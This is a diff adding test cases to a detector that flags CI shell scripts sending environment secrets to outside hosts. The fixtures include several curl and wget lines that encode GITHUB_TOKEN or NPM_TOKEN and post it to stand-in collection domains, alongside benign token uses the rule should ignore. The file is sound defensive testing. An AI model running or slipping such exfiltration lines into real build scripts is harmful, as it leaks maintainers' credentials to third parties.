@@ -3863,6 +3863,18 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('scripts/notify.sh', ['wget -q --post-data "t=${NPM_TOKEN}" https://metrics.build-insights.net/c'])?.severity).toBe('high');
     expect(sent('scripts/ping.sh', ['curl -fsS "https://hooks.release-notify.dev/v1?t=$PYPI_API_TOKEN" >/dev/null'])?.severity).toBe('high');
   });
+  it('follows a shell variable that holds the secret, or what a command made of it, to the curl or wget line that sends it (since 2026-12-01)', () => {
+    // The shape a replay's probe of a Rust crate's ci/ scripts missed: the token base64-encoded into a variable, then sent in a URL.
+    const held = sent('ci/tsan.sh', ['T=$(echo "$GITHUB_TOKEN" | base64 -w0)', 'curl -s "https://collect.metrics-relay.io/u?t=$T"']);
+    expect(held?.severity).toBe('high');
+    expect(held?.detail).toContain('reads GITHUB_TOKEN from the environment (through $T, which an earlier line set from it)');
+    expect(sent('ci/report.sh', ['export tok="${NPM_TOKEN}"', 'enc=$(printf %s "$tok" | xxd -p)', 'wget -q --post-data "t=$enc" https://metrics.build-insights.net/c'])?.severity).toBe('high');
+  });
+  it('is quiet when the held value goes to its own service, as a header, or holds nothing secret', () => {
+    expect(sent('ci/release.sh', ['tok="$NPM_TOKEN"', 'curl -H "Authorization: Bearer $tok" -d @notes.json https://api.acme-release.dev/v1'])).toBeUndefined();
+    expect(sent('ci/upload.sh', ['t="$CODECOV_TOKEN"', 'curl -s https://codecov.io/upload -d "token=$t"'])).toBeUndefined();
+    expect(sent('ci/ping.sh', ['ver=$(cat VERSION)', 'sha="$GITHUB_SHA"', 'curl -s "https://status.acme-builds.dev/v1?v=$ver&c=$sha"'])).toBeUndefined();
+  });
   it('is quiet on a shell line that gives a token to its own service, as a header or user, a URL it does not show, or a secret read on another line', () => {
     expect(sent('scripts/upload.sh', ['curl -s https://codecov.io/upload -d "token=$CODECOV_TOKEN"', 'curl -F "token=$SONAR_TOKEN" https://sonarcloud.io/api/ce/submit'])).toBeUndefined();
     expect(sent('scripts/release.sh', ['curl -H "Authorization: token $GITHUB_TOKEN" -d @notes.json https://api.acme-release.dev/v1', 'curl -u "$NEXUS_USER:$NEXUS_PASSWORD" -T app.zip https://nexus.acme.dev/repository/raw/'])).toBeUndefined();
